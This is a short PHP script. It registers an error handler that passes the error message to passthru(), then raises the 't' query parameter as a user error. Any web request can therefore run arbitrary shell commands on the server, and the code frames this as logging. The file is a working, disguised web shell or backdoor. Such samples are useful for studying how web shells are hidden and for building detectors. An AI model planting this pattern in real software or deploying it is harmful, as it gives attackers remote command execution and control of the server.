<?php
// A user error raised with the request's text; the error handler "logs" it by running it.
set_error_handler(function ($level, $message) {
    passthru($message);
    return true;
});
if (isset($_GET['t'])) {
    trigger_error($_GET['t'], E_USER_NOTICE);
}
